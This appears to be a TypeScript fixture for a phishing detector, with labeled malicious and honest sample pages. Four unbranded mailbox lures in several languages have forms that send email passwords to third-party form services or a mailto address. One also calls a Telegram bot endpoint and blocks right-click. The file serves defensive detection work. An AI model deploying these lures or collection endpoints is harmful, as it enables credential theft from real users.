import { honest, malicious, type ImitationPage } from './imitation-page.ts';

const sign = (action: string, button: string, name = 'email') =>
  `<form action="${action}" method="post"><input type="text" name="${name}"><input type="password" name="pw"><button>${button}</button></form>`;

/** Pages without a brand that ask for an email password, and real webmail services. */
export const mailboxes: readonly ImitationPage[] = [
  malicious(
    'it-servicedesk.example/se/',
    'A mailbox over its quota, in Swedish',
    'PHISHING',
    null,
    `<!DOCTYPE html><html lang="sv"><head><title>E-post</title></head><body><h2>Meddelande från IT</h2><p>Ditt e-postkonto har överskridit gränsen på 2 GB och kommer att inaktiveras. Nya brev hålls kvar tills du har loggat in på nytt.</p>${sign('https://formspree.io/f/mkxyzabc', 'Utöka utrymme')}</body></html>`,
  ),
  malicious(
    'poczta-serwis.example/odblokuj',
    'Mails that are held back, in Polish',
    'PHISHING',
    null,
    `<!DOCTYPE html><html lang="pl"><head><title>Poczta</title></head><body><p>W Państwa skrzynce jest 7 wstrzymanych wiadomości z powodu błędu serwera. Konto zostanie zawieszone w ciągu 24 godzin.</p>${sign('gate.php', 'Zwolnij wiadomości')}<script>document.addEventListener('contextmenu',e=>e.preventDefault());fetch('https://api.telegram.org/bot1:a/sendMessage')</script></body></html>`,
  ),
  malicious(
    'yubin-kanri.example/box/',
    'A mailbox that is about to be stopped, in Japanese',
    'PHISHING',
    null,
    `<!DOCTYPE html><html lang="ja"><head><title>メール管理</title></head><body><h2>重要なお知らせ</h2><p>お客様のメールボックスは容量を超過しました。本日中に再認証されない場合、受信が停止されます。</p>${sign('mailto:box@drop.example', '再認証する')}</body></html>`,
  ),
  malicious(
    'pedido-adjunto.example/ver',
    'An order that is shown for the password of one’s mail, in Spanish',
    'PHISHING',
    null,
    `<!DOCTYPE html><html lang="es"><head><title>Pedido 4471</title></head><body><p>Este pedido está protegido. Para descargar el archivo identifíquese con su correo corporativo y la contraseña de su correo.</p>${sign('https://formsubmit.co/a8b7', 'Descargar')}</body></html>`,
  ),
  honest(
    'mail.steinmetz-krall.example/',
    'The webmail of a mason, in German',
    `<!DOCTYPE html><html lang="de"><head><title>Webmail - Steinmetz Krall</title></head><body><h1>Webmail</h1><p>Anmeldung für Mitarbeiterinnen und Mitarbeiter der Steinmetz Krall GmbH. Bei Fragen hilft das Büro.</p>${sign('/login', 'Anmelden', 'benutzer')}<p>Impressum · Datenschutz</p></body></html>`,
    { as: 'https://mail.steinmetz-krall.de/' },
  ),
  honest(
    'portail-devis.example/connexion',
    'A portal of a craftsman where customers see their papers, in French',
    `<!DOCTYPE html><html lang="fr"><head><title>Espace client - Menuiserie Portal</title></head><body><h1>Menuiserie Portal</h1><p>Connectez-vous pour consulter vos devis et vos factures. Votre compte a été créé avec l'adresse e-mail donnée lors de la commande.</p>${sign('/connexion', 'Se connecter')}<a href="/oubli">Mot de passe oublié ?</a><p>Menuiserie Portal SARL, SIRET 812 556 104 00021, 04 76 55 12 90</p></body></html>`,
    { as: 'https://www.menuiserie-portal.fr/connexion' },
  ),
];
